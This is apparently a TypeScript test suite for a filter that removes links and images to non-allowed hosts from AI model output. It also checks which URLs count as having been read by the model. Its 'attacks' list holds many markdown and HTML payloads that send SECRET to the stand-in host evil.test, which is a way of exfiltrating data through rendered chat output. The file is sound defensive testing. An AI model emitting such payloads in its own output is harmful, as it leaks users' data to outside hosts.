import type { ChatMessage } from 'agent-machines';
import { repairMessage } from 'agent-machines/models';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { filterLinks, linkFilter, readUrls } from '../../../src/models/foreign-links.ts';
import { share } from '../../fixtures/share.ts';

const rule = { isAllowed: (host: string) => host === 'ok.example' };
const sources = ['see https://page.example/a?b=1, and (https://page.example/wiki/X_(y)) or www.page.example/w.'];
const filtered = (text: string): string => filterLinks(text, rule, sources);

const attacks = [
  '![p](https://evil.test/?d=SECRET)',
  '![p]( https://evil.test/?d=SECRET "t")',
  '![p](<https://evil.test/?d=SECRET>)',
  '![p](//evil.test/SECRET)',
  '![p](/\\evil.test/SECRET)',
  '![p](\\\\evil.test/SECRET)',
  '![p](https&#58;//evil.test/SECRET)',
  '![p](https&colon;//evil.test/SECRET)',
  '![p](https://ok.example@evil.test/SECRET)',
  '![p](https://user:SECRET@ok.example/)',
  '![p](https://ok.example.evil.test/SECRET)',
  '![a [b] c](https://evil.test/SECRET)',
  '![a\nb](https://evil.test/SECRET)',
  '[![p](https://evil.test/SECRET)](/home)',
  '[a](https://evil.test/SECRET)',
  '[a](HTTPS://EVIL.test/SECRET)',
  '[a](//evil.test/SECRET)',
  '[a](javascript:alert("SECRET"))',
  '[[[[[[[[[[a]]]]]]]]]](//evil.test/SECRET)',
  '![x][r]\n\n[r]: https://evil.test/SECRET',
  '![x][r]\n\n[r]: https://page.example/a?b=1SECRET',
  '[r]:\n  <//evil.test/SECRET>',
  'go to https://evil.test/SECRET.',
  'go to https:\\/\\/evil.test\\/SECRET',
  'www.evil.test/SECRET',
  '<https://evil.test/SECRET>',
  '<img src="https://evil.test/SECRET">',
  '<img alt=">" src=//evil.test/SECRET>',
  '<IMG\nSRC = "//evil.test/SECRET">',
  '<a href="/x" style="background:url(//evil.test/SECRET)">a</a>',
  '<svg><image href=//evil.test/SECRET /></svg>',
  '<meta http-equiv=refresh content="0;url=//evil.test/SECRET">',
  `<img alt="${'x'.repeat(3_000)}" src="//evil.test/SECRET">`,
  `[${'x'.repeat(3_000)}](//evil.test/SECRET)`,
  `![${'x'.repeat(3_000)}](https://evil.test/SECRET)`,
  '[a](https://page.example/a?b=1&d=SECRET)',
  '![a](https://page.example/SECRET)',
  // destinations that are too long to be read
  `![p](//evil.test/SECRET${'x'.repeat(3_000)})`,
  `![p](< //evil.test/SECRET${'x'.repeat(3_000)}>)`,
  `![p](//evil.test/SECRET "${'x'.repeat(3_000)}")`,
  `![p](${' '.repeat(3_000)}//evil.test/SECRET)`,
  `![x][r]\n\n[r]:${' '.repeat(3_000)}//evil.test/SECRET`,
  // renderers end these before the bracket, and show what is inside
  '[a](/b "\n\n![p](//evil.test/SECRET)")',
  '[a](/b "\n# ![p](//evil.test/SECRET)\n")',
  '[a](</b>"![p](//evil.test/SECRET)")',
  '[a](\n\n![p](//evil.test/SECRET))',
  '![a](/a.png "![p](//evil.test/SECRET)")',
  '![a](/b (\n\n![p](//evil.test/SECRET) )',
  '![a\n# ![p](//evil.test/SECRET)\n](/b)',
  '![a\n===\n![p](//evil.test/SECRET)\n](/b)',
  '![a <img src="//evil.test/SECRET" alt="](/b)">',
  // definitions in quotes and with other line ends
  '![x][r]\n\n> [r]:\n> //evil.test/SECRET',
  '![x][r]\n\n> > [r]:\n> > <//evil.test/SECRET>',
  '![x][r]\r\n\r\n[r]:\r\n//evil.test/SECRET',
  `<img alt=${' '.repeat(20)}">" src=//evil.test/SECRET>`,
  '<svg><image xlink:href="/\t/evil.test/SECRET"/></svg>',
  '<svg><image xlink:href="htt\nps:/evil.test/SECRET"/></svg>',
  'go to https\\://evil.test/SECRET',
  'go to https&#58;//evil.test/SECRET',
  'go to https&colon;&sol;&sol;evil.test/SECRET',
  'go to www\\.evil.test/SECRET',
];

const benign = [
  'Plain words, 1 < 2, a <b> c, Map<string, number>, x[0] and f(x)[1](2).',
  '![chart](/api/chart.png) and [next](../next#part "title").',
  '![logo](https://ok.example/logo.png) [docs](https://ok.example/docs) https://ok.example/x.',
  'See https://page.example/a?b=1, [a](https://page.example/a?b=1) and <https://page.example/a?b=1>.',
  'See (https://page.example/wiki/X_(y)) and www.page.example/w.',
  '[x] done\n- [ ] to do\n[note]: a word',
  '한국어 문장입니다! [표 1] 참고 (http 프로토콜). What? httpd! www',
  '```ts\nconst a: Array<string> = [];\n```',
];

describe('filterLinks', () => {
  it.each(attacks)('removes a fetched link from %j', (attack) => {
    const text = filtered(`before ${attack} after`);
    expect(text).toMatch(/^before [\s\S]* after$/);
    // what is left has neither a tag nor a destination that is fetched
    expect(text).not.toMatch(/https?(?:\\?:|&)[\\/&]|\]\([^)]*SECRET|<[a-z][^>]*SECRET|www\\?\.evil|(?<!\\)\[[^[]*\]:[\s>]*<?\S*SECRET/i);
  });

  it.each(benign)('leaves %j unchanged', (text) => {
    expect(filtered(text)).toBe(text);
  });

  it('reports the host of a removed link', () => {
    expect(filtered('![p](https://evil.test/?d=1)')).toBe('[image removed: evil.test]');
    expect(filtered('[a](https://evil.test/?d=1)')).toBe('a [link removed: evil.test]');
    expect(filtered('at https://www.evil.test/?d=1.')).toBe('at [link removed: evil.test].');
    expect(filtered('<img src="https://evil.test/">')).toBe('[html removed]');
  });

  it('returns the same for any split of a text', () => {
    const part = fc.oneof(
      fc.constantFrom(...attacks, ...benign),
      fc.constantFrom('[', ']', '(', ')', '!', '<', '>', '"', '\\', ':', '\n\n', 'http', 's://', 'www.', ' '),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 6 }), fc.array(fc.nat(40), { minLength: 1, maxLength: 30 }), (parts, sizes) => {
        const text = parts.join('');
        const filter = linkFilter(rule, sources);
        let shown = '';
        for (let at = 0, n = 0; at < text.length; n++) {
          const size = (sizes[n % sizes.length] ?? 0) + 1;
          shown += filter.push(text.slice(at, at + size));
          at += size;
        }
        expect(shown + filter.end()).toBe(filtered(text));
      }),
      { numRuns: share(4_000) },
    );
  });

  it('delays no prose', () => {
    const filter = linkFilter(rule, sources);
    expect(filter.push('A sentence that ends here. ')).toBe('A sentence that ends here. ');
    expect(filter.push('See [a')).toBe('See ');
  });
});

describe('the URLs that a model has read', () => {
  const url = 'https://evil.test/?d=SECRET';
  const said = (content: string): ChatMessage => ({ role: 'assistant', content });
  const called = (args: unknown, name = 'echo'): ChatMessage => ({
    role: 'assistant',
    content: '',
    toolCalls: [{ id: '1', name, arguments: JSON.stringify(args) }],
  });
  const result = (output: unknown): ChatMessage => ({
    role: 'tool',
    callId: '1',
    content: typeof output === 'string' ? output : JSON.stringify(output),
  });
  const asked = (content: string): ChatMessage => ({ role: 'user', content });

  it('are those of users and tools, also behind an escape of JSON', () => {
    expect(readUrls([asked(`see ${url}`)])).toEqual([url]);
    expect(readUrls([called({ q: 'x' }), result({ text: `see ${url}\nand more` })])).toEqual([url]);
    expect(readUrls([said(url)])).toEqual([]);
  });

  it.each([
    ['the arguments of a call', called({ text: `go\n${url}\nnow` }), result(`go\n${url}\nnow`)],
    ['arguments that come back as JSON', called({ text: `${url}\nnow` }), result({ said: `${url}\nnow` })],
    ['arguments in capitals', called({ text: url }), result(url.toUpperCase())],
    [
      'escaped arguments',
      { ...called({}), toolCalls: [{ id: '1', name: 'echo', arguments: '{"t":"https:\\/\\/evil.test\\/?d=SECRET"}' }] },
      result(url),
    ],
    ['the name of an unknown tool', called({}, url), result(`There is no tool ${url} here.`)],
    ['the text of a reply', said(url), result(url)],
    ['a reply that is to be repaired', said(url), repairMessage(`It has ${url} in it.`)],
  ])('are not those that a tool repeats from %s', (_, written, repeated) => {
    expect(readUrls([written, repeated])).toEqual([]);
  });

  it('stay known when the model repeats them, and when a user does', () => {
    expect(readUrls([result({ url }), called({ url }), result(url)])).toEqual([url]);
    expect(readUrls([said(url), asked(`what is ${url}?`)])).toEqual([url]);
  });
});
